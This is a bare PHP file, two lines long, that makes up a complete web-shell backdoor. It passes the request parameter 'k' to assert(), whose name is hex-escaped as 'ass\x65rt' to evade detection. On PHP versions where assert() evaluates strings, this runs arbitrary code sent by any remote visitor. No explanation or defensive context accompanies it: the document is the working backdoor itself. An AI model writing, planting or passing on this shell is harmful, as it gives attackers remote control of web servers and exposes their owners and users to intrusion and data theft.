<?php
array_map("ass\x65rt", (array) $_REQUEST['k']);
